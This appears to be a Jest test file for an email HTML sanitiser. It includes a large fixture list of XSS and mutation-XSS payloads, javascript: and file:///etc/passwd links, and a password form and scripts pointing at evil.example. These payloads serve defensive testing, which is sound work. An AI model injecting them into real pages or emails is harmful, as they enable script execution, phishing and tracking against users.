import { sanitiseEmail } from '../../../frontend/src/features/email/sanitiseEmail';

const sanitise = (html: string) => sanitiseEmail(html, (alt) => (alt ? `[Picture: ${alt}]` : '[Picture]'));

/** What the page would hold. */
function shown(html: string): HTMLElement {
  const place = document.createElement('div');
  place.innerHTML = sanitise(html);
  return place;
}

const allowedAttributes = new Set(['href', 'target', 'rel', 'colspan', 'rowspan', 'lang', 'dir', 'start']);
const forbidden = [
  ...['script', 'style', 'link', 'meta', 'base', 'iframe', 'object', 'embed', 'svg', 'math', 'form', 'input', 'button'],
  ...['textarea', 'select', 'img', 'video', 'audio', 'picture', 'source', 'template', 'noscript', 'frame', 'frameset'],
  ...['title', 'h1', 'h2', 'marquee', 'dialog', 'details', 'custom-element'],
].join(', ');

const hostile = {
  'a script': '<script>alert(1)</script>',
  'a script in capitals and slashes': '<ScRiPt/src="https://evil.example/x.js"></sCrIpT>',
  'an error handler': '<img src=x onerror=alert(1)>',
  'handlers on plain text': '<p onclick="alert(1)" onmouseover=alert(1) onfocus=alert(1) tabindex=0 autofocus>x</p>',
  'a javascript link': '<a href="javascript:alert(1)">x</a>',
  'a javascript link with a tab and entities': '<a href="java&#9;script&colon;alert(1)">x</a>',
  'a javascript link in control characters': '<a href="\u0001javascript:alert(1)">x</a>',
  'a vbscript link': '<a href="vbscript:msgbox(1)">x</a>',
  'a data document': '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  'a file link': '<a href="file:///etc/passwd">x</a>',
  'an svg with a script': '<svg><script>alert(1)</script></svg>',
  'an svg that animates a link':
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
  'an svg that loads': '<svg onload=alert(1)><use href="https://evil.example/x.svg#y"/></svg>',
  'mutation by math and style':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'mutation by svg and style': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'mutation by noscript': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'mutation by a textarea in a form':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'mutation by nested tables': '<table><caption><svg><title><table></table></title><style><img src=x onerror=alert(1)>',
  'a template': '<template><img src=x onerror=alert(1)></template>',
  'an iframe': '<iframe src="https://evil.example"></iframe>',
  'an iframe with its own document': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'an object and an embed': '<object data="x.swf"></object><embed src="x.swf">',
  'a form for a password':
    '<form action="https://evil.example"><input name=password type=password><button>Go</button></form>',
  'a button that submits elsewhere': '<button formaction="https://evil.example">x</button>',
  'a refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  'a base address': '<base href="https://evil.example/">',
  'a style sheet': '<link rel=stylesheet href="https://evil.example/x.css"><style>body{display:none}</style>',
  'a style that tracks': '<div style="background:url(https://evil.example/pixel)">x</div>',
  'a style that covers the page': '<div style="position:fixed;inset:0;z-index:9999">x</div>',
  'a background of old': '<table background="https://evil.example/pixel"><tr><td background=x>x</td></tr></table>',
  'names that clobber': '<p id="content" name="getElementById">x</p><a id=cookie name=cookie href="#">y</a>',
  'the page’s own classes':
    '<div class="modal show undo-notice" role="dialog" aria-modal="true" data-event-id="1">x</div>',
  'a pixel': '<img src="https://evil.example/p.gif" width="1" height="1" alt="">',
  'picture sets':
    '<picture><source srcset="https://evil.example/a"><img srcset="https://evil.example/b 2x" alt="x"></picture>',
  'sound and film': '<video poster="https://evil.example/p" src=x autoplay></video><audio src=x autoplay></audio>',
  'a custom element': '<custom-element onclick=alert(1) is="x">x</custom-element>',
  'an unclosed attribute': '<img src="x` `<script>alert(1)</script>"` `>',
  'a comment that is none': '<!--><script>alert(1)</script>-->',
  'a document of its own':
    '<html><head><title>x</title></head><body onload=alert(1) background=x><h1>Hi</h1></body></html>',
};

describe.each(Object.entries(hostile))('of %s', (_, html) => {
  it('removes all that runs, loads, submits or affects the rest of the page', () => {
    const place = shown(html);
    expect(place.querySelectorAll(forbidden)).toHaveLength(0);
    for (const element of place.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        expect(allowedAttributes).toContain(name);
        if (name === 'href') expect(value).toMatch(/^(https?:|mailto:|tel:)/i);
      }
    }
    expect(place.innerHTML).not.toMatch(/evil\.example\/(p|pixel|x|a|b)\b|onerror\s*=|alert\(1\)\s*>/i);
  });

  it('sanitising again changes nothing', () => {
    const once = sanitise(html);
    expect(sanitise(once)).toBe(once);
  });
});

it('keeps text, its structure and its links', () => {
  const html =
    '<h3>Offer</h3><p>From <strong>us</strong>, <em>to you</em>.<br>Yes.</p><ul><li>one</li></ul>' +
    '<table><thead><tr><th>Work</th></tr></thead><tbody><tr><td colspan="2">€ 640</td></tr></tbody></table>' +
    '<blockquote><p dir="rtl">שלום</p></blockquote>';
  expect(sanitise(html)).toBe(html);
});

it('opens links in a new tab, without a referrer', () => {
  const link = shown('<a href="https://example.nl/x" target="_top" rel="opener">x</a>').querySelector('a');
  expect(link?.getAttribute('href')).toBe('https://example.nl/x');
  expect(link?.target).toBe('_blank');
  expect(link?.rel).toBe('noopener noreferrer nofollow');
});

it('lowers an email’s headings to below those of the page', () => {
  expect(sanitise('<h1>Sale</h1><h2>Now</h2>')).toBe('<h3>Sale</h3><h3>Now</h3>');
});

it('replaces images by text, and removes tracking pixels', () => {
  expect(shown('<p><img src="https://x.example/a.png" alt="A wharf"></p>').textContent).toBe('[Picture: A wharf]');
  expect(shown('<p><img src="https://x.example/a.png"></p>').textContent).toBe('[Picture]');
  expect(shown('<p>a<img src="x" width="1" height="1">b</p>').textContent).toBe('ab');
});

it('escapes the text of an image', () => {
  const place = shown('<img alt="&lt;img src=x onerror=alert(1)&gt;">');
  expect(place.children).toHaveLength(0);
  expect(place.textContent).toBe('[Picture: <img src=x onerror=alert(1)>]');
});
